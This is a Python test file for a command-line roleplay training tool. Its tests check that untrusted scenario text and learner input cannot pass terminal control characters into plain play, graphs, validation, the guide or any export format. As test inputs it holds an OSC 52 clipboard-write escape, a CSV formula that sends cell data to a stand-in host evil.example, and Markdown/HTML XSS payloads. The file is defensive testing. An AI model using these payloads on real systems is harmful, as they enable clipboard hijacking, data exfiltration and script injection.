"""Every output of untrusted text is safe: random text full of control characters, put in
a scenario and typed by a learner, goes through every output path (plain play, the `list`
table, both graph formats, validate messages, every export format, present mode's
summary, the review pack, the guide) and no ESC, BEL or C1 control comes out where roleplay did not
write it itself (plain mode's own colours).
Also the fixed cases of issue 12: an OSC 52 clipboard write, CSV formulas, Markdown links."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import re
import tempfile
from datetime import datetime
from pathlib import Path
from typing import Any

import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from roleplay.cli import main
from roleplay.core.debrief import build_debrief
from roleplay.core.engine import Engine
from roleplay.core.facilitation.summary import summary_markdown
from roleplay.core.graph import to_dot, to_mermaid
from roleplay.core.loader import load_scenario
from roleplay.plain import ansi_style, run_plain
from roleplay.session import FeedbackTiming, PracticeOptions
from roleplay.session.export import (
    build_record,
    rows_csv,
    rows_json,
    step_rows,
    to_html,
    to_markdown,
)
from roleplay.store import Store

MINI = Path(__file__).resolve().parent / "data" / "mini.yaml"
OSC52 = "\x1b]52;c;cHduZWQ=\x07\x1b[2Jx"
FORBIDDEN = re.compile("[\x07\x1b\x80-\x9f]")
# plain mode's own colours: exactly the codes it writes, nothing else.
OWN_SGR = re.compile("\x1b\\[[0-9;]+m")

DANGEROUS = [
    "\x1b",
    "\x07",
    "\x00",
    "\r",
    "\x08",
    "\x7f",
    "\x9b",
    "\x9d",
    "\x85",
    "\u202e",
    "\u2066",
    "\u200b",
    "\ufeff",
    "\u2028",
    OSC52,
    "\x1b[31m",
    "\x00heading\x01x\x02",  # imitates plain mode's own style marks
]
hostile = st.lists(
    st.one_of(
        st.sampled_from(DANGEROUS),
        st.text(
            st.characters(codec="utf-8", exclude_categories=("Cs", "Co"), max_codepoint=0x2FFF),
            max_size=4,
        ),
    ),
    max_size=6,
).map(lambda parts: "x" + "".join(parts))
SETTINGS = settings(
    max_examples=int(os.environ.get("ROLEPLAY_PROPERTY_EXAMPLES", "15")),
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)


def _hostile_scenario(text: str) -> dict[str, Any]:
    data: dict[str, Any] = yaml.safe_load(MINI.read_text(encoding="utf-8"))
    data["title"] = text
    data["summary"] = text
    data["client"]["name"] = text
    for node in data["nodes"]:
        node["title"] = text
        for line in node.get("lines", []):
            if "say" in line:
                line["say"] = text
        for option in node.get("options", []):
            option["text"] = text
            option["feedback"]["why"] = text
    for ending in data["endings"]:
        ending["title"] = text
        ending["description"] = text
    data["reflection_prompts"] = [text]
    return data


def _assert_safe(where: str, out: str) -> None:
    found = FORBIDDEN.search(out)
    assert found is None, f"{where}: raw {found.group()!r} in {out[:2000]!r}"


def _cli(*argv: str) -> str:
    stdout, stderr = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(stdout), contextlib.redirect_stderr(stderr):
        main(list(argv))
    return stdout.getvalue() + stderr.getvalue()


def _one_line(text: str) -> str:
    """Learner input arrives a line at a time."""
    return re.sub("[\n\r\x85\u2028\u2029\x0b\x0c\x1c\x1d\x1e]", " ", text)


@SETTINGS
@given(text=hostile, words=hostile)
def test_no_output_path_lets_a_control_character_through(text: str, words: str) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp) / "scenarios"
        folder.mkdir()
        path = folder / "hostile.yaml"
        path.write_text(yaml.safe_dump(_hostile_scenario(text), sort_keys=False), "utf-8")
        home = Path(tmp) / "home"
        loaded = load_scenario(path)

        # plain play, without and with colour; the learner's own words and reflections too
        typed = _one_line(words)
        given_input = "\n".join([typed, "1", typed, "1", typed, typed, typed, typed]) + "\n"
        for style in (None, ansi_style):
            stdout, stderr = io.StringIO(), io.StringIO()
            if style is None:
                run_plain(
                    loaded,
                    data_dir=home,
                    options=PracticeOptions(FeedbackTiming.AT_END, write_first=True),
                    resume=False,
                    reflect=True,
                    stdin=io.StringIO(given_input),
                    stdout=stdout,
                    stderr=stderr,
                )
            else:
                from roleplay.plain import PlainSession

                PlainSession(
                    loaded.scenario, stdin=io.StringIO(given_input), stdout=stdout, style=style
                ).run()
            _assert_safe("plain play", OWN_SGR.sub("", stdout.getvalue()) + stderr.getvalue())

        # the list table, validate (text and json), graphs
        common = ["--data-dir", str(home), "--scenarios", str(folder)]
        _assert_safe("list", _cli(*common, "list"))
        _assert_safe("list json", _cli(*common, "list", "--format", "json"))
        _assert_safe("validate", _cli(*common, "validate", str(path)))
        _assert_safe("validate json", _cli(*common, "validate", "--format", "json", str(path)))
        broken = Path(tmp) / "broken.yaml"
        broken.write_text(
            MINI.read_text(encoding="utf-8") + yaml.safe_dump({text: 1, "start": text}), "utf-8"
        )
        _assert_safe("validate broken", _cli(*common, "validate", str(broken)))
        engine = Engine(loaded.scenario)
        while not engine.finished:
            engine.choose(1)
        summary = summary_markdown(
            loaded.scenario, [], build_debrief(engine), split_threshold=0.6, when=datetime.now()
        )
        _assert_safe("present summary", summary)
        _assert_safe("mermaid", to_mermaid(loaded.scenario))
        _assert_safe("dot", to_dot(loaded.scenario))
        _assert_safe("graph cli", _cli(*common, "graph", str(path), "--format", "dot"))
        _assert_safe("paths cli", _cli(*common, "paths", str(path)))
        _assert_safe("review pack", _cli(*common, "review-pack", str(path)))
        for fmt in ("md", "html"):
            _assert_safe(f"guide {fmt}", _cli(*common, "guide", str(path), "--format", fmt))

        # every export format of what plain play saved
        store = Store(home)
        try:
            attempts = store.attempts()
            assert attempts, "plain play saved nothing"
            record = build_record(store, attempts[0], loaded)
            rows = step_rows(store, attempts)
            _assert_safe("markdown", to_markdown(record))
            _assert_safe("html", to_html(record))
            _assert_safe("csv", rows_csv(rows))
            exported = rows_json(rows)
            _assert_safe("json", exported)
            # JSON keeps the text exact.
            assert [r["own_words"] for r in json.loads(exported)] == [r["own_words"] for r in rows]
        finally:
            store.close()
        for fmt in ("md", "html", "csv", "json"):
            which = ["--all"] if fmt in ("csv", "json") else []
            _assert_safe(fmt, _cli(*common, "export", *which, "--format", fmt))


def test_csv_export_cannot_run_a_formula(tmp_path: Path) -> None:
    loaded = load_scenario(MINI)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    answers = "\n".join([formula, "1", "@SUM(1+1)", "1", "", "", "", ""]) + "\n"
    run_plain(
        loaded,
        data_dir=tmp_path,
        options=PracticeOptions(FeedbackTiming.IMMEDIATE, write_first=True),
        resume=False,
        reflect=False,
        stdin=io.StringIO(answers),
        stdout=io.StringIO(),
        stderr=io.StringIO(),
    )
    store = Store(tmp_path)
    rows = step_rows(store, store.attempts())
    store.close()
    table = list(csv.DictReader(io.StringIO(rows_csv(rows))))
    assert [row["own_words"] for row in table] == ["'" + formula, "'@SUM(1+1)"]
    assert table[0]["trust_before"] == str(rows[0]["trust_before"])  # numbers unchanged
    # JSON stays exact.
    assert [r["own_words"] for r in json.loads(rows_json(rows))] == [formula, "@SUM(1+1)"]


def test_markdown_export_makes_no_live_link_from_learner_words(tmp_path: Path) -> None:
    loaded = load_scenario(MINI)
    words = "[click me](javascript:alert(1)) <img src=x onerror=alert(1)>"
    run_plain(
        loaded,
        data_dir=tmp_path,
        options=PracticeOptions(FeedbackTiming.IMMEDIATE, write_first=True),
        resume=False,
        reflect=True,
        stdin=io.StringIO("\n".join([words, "1", "", "1", words, "", "", ""]) + "\n"),
        stdout=io.StringIO(),
        stderr=io.StringIO(),
    )
    store = Store(tmp_path)
    record = build_record(store, store.attempts()[0], loaded)
    store.close()
    markdown = to_markdown(record)
    assert "\\[click me\\](javascript:alert(1))" in markdown
    assert "<img" not in markdown and "&lt;img" in markdown
